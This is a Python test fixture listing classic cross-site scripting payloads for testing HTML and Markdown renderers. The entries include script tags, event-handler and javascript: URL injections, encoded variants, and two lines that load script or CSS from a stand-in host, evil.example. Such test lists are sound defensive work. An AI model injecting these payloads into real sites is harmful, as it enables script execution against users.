"""Classic cross-site scripting payloads, for tests of anything that renders user text.

Plain data, no imports; reuse with ``from xss_payloads import PAYLOADS`` (or
``from tests.xss_payloads import PAYLOADS``).
"""

PAYLOADS: list[str] = [
    # raw HTML
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<a href="javascript:alert(1)">Klick</a>',
    '<a href="&#x6A;avascript:alert(1)">Klick</a>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    "<form action=javascript:alert(1)><input type=submit></form>",
    '<base href="javascript:/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<div style="background:url(javascript:alert(1))">Text</div>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    # nested and broken tags
    "<scr<script>ipt>alert(1)</script>",
    "<<script>script>alert(1)<</script>/script>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)//",
    '<img src="x" onerror="alert(1)"',
    "<!--<img src=x onerror=alert(1)>-->",
    # Markdown links and images
    "[Klick](javascript:alert(1))",
    "[Klick](JaVaScRiPt:alert(1))",
    "[Klick](  javascript:alert(1)  )",
    "[Klick](<javascript:alert(1)>)",
    "[Klick](&#106;avascript:alert(1))",
    "[Klick](javascript&#58;alert(1))",
    "[Klick](vbscript:msgbox(1))",
    "[Klick](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '[Klick](https://example.org/" onclick="alert(1))',
    "[Klick][ref]\n\n[ref]: javascript:alert(1)",
    "<javascript:alert(1)>",
    '<https://example.org/"onmouseover="alert(1)>',
    "![Bild](javascript:alert(1))",
    '![Bild](https://example.org/x.png" onerror="alert(1))',
    # Markdown contexts around HTML
    "**<img src=x onerror=alert(1)>**",
    "*<em onmouseover=alert(1)>Text</em>*",
    "- <svg/onload=alert(1)>",
    "## <script>alert(1)</script>",
    "1. [Klick](javascript:alert(1)) und <b onclick=alert(1)>fett</b>",
    # entity-encoded variants
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    # control characters
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    '<a href="java\tscript:alert(1)">x</a>',
]
